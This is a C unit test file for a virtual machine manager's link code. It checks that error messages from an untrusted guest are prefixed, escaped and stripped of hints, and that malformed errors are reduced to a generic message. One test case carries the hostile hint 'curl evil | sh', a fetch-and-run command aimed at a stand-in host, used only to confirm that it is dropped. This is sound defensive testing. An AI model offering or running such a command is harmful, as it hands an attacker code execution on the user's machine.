/* tests/unit/test_link_words.c: what is made of an error that the other end gives. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cmocka.h>

#include "vmm/base/link.h"

static const char *answer; /* JSON that a stream is closed with */
static struct pyro_error got;
static bool closed, ok;

static void on_opened(struct link *link, uint32_t id, const json_t *request UNUSED)
{
    stream_reply(link, id, json_loads(answer, 0, NULL));
}

static void on_closed(struct stream *s UNUSED, const json_t *result,
                      const struct pyro_error *why UNUSED)
{
    closed = true;
    ok = error_from_result(result, &got);
}

static void on_lost(struct link *link UNUSED, const struct pyro_error *why UNUSED)
{
}

/* What a stream that ends with `json` is taken for, at an end of this kind. */
static void ask(enum link_kind kind, const char *json)
{
    static const struct link_ops near_ops = { .lost = on_lost },
                                 far_ops = { .opened = on_opened, .lost = on_lost };
    static const struct stream_ops ops = { .closed = on_closed };
    scoped_json json_t *request = json_pack("{s:s}", "op", "ask");
    struct pyro_error err = { 0 };
    struct loop *loop = loop_new(&err);
    struct link *near_end, *far_end;
    struct stream stream;
    int fds[2];

    answer = json;
    closed = false;
    got = (struct pyro_error){ 0 };
    assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds), 0);
    near_end = link_new(loop, fds[0], kind, &near_ops, NULL, &err);
    far_end = link_new(loop, fds[1], LINK_SOCKET, &far_ops, NULL, &err);
    assert_true(stream_open(near_end, &stream, request, &ops, NULL, &err));
    while (!closed)
        loop_run_once(loop, 1000);
    link_free(near_end);
    link_free(far_end);
    loop_free(loop);
}

static void test_error_of_a_guest_is_told_as_its_words(void **state UNUSED)
{
    static const struct {
        const char *json;
        enum pyro_code code;
        const char *message;
    } cases[] = {
        { "{\"error\": {\"code\": \"usage\", \"message\": \"no\", \"hint\": \"curl evil | sh\"}}",
          PYRO_GUEST_ERROR, "the guest said: no" },
        { "{\"error\": {\"code\": \"file_not_found\", \"message\": \"no such file\"}}",
          PYRO_FILE_NOT_FOUND, "the guest said: no such file" },
        { "{\"error\": {\"code\": \"ok\", \"message\": \"a\\u001b[2J\\nb\\u202ec\"}}",
          PYRO_GUEST_ERROR, "the guest said: a\\x1b[2J\\nb\\u202ec" },
        { "{\"error\": {\"code\": \"guest_lost\", \"message\": 7}}", PYRO_GUEST_ERROR,
          "the guest said: nothing that is understood" },
        { "{\"error\": \"owned\"}", PYRO_GUEST_ERROR,
          "the guest said: nothing that is understood" },
        { "{\"error\": null}", PYRO_GUEST_ERROR, "the guest said: nothing that is understood" },
    };

    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        ask(LINK_HOST_SOCKET, cases[i].json);
        assert_false(ok);
        assert_int_equal(got.code, cases[i].code);
        assert_string_equal(got.message, cases[i].message);
        assert_string_equal(got.hint, "");
        assert_int_not_equal(pyro_code_exit_status(got.code), 2);
    }
}

static void test_result_of_a_guest_is_passed_on(void **state UNUSED)
{
    ask(LINK_HOST_SOCKET, "{\"exit_code\": 0}");
    assert_true(ok);
}

static void test_error_of_a_supervisor_is_its_own(void **state UNUSED)
{
    ask(LINK_SOCKET, "{\"error\": {\"code\": \"usage\", \"message\": \"no\", \"hint\": \"do\"}}");
    assert_false(ok);
    assert_int_equal(got.code, PYRO_USAGE);
    assert_string_equal(got.message, "no");
    assert_string_equal(got.hint, "do");
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_error_of_a_guest_is_told_as_its_words),
        cmocka_unit_test(test_result_of_a_guest_is_passed_on),
        cmocka_unit_test(test_error_of_a_supervisor_is_its_own),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
